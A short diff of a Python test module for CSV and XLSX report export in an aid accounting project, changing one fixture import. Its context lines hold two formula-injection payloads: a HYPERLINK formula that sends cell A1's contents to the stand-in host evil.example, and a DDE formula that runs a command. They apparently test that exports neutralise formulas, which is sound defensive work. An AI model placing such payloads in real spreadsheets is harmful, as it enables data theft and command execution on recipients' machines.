@@ -11,7 +11,7 @@ from aid_accounting.payouts.models import PayoutBatch
 from aid_accounting.transparency.report_export import to_csv, to_xlsx
 from aid_accounting.transparency.reports import Column, Report
 from core.spreadsheet import inert
-from tests.aid_accounting.test_payouts import distributed  # noqa: F401 (fixture)
+from tests.aid_accounting.payouts.test_batches import distributed  # noqa: F401 (fixture)
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 SHORT_HOSTILE = '=cmd|" /c calc"!A1'
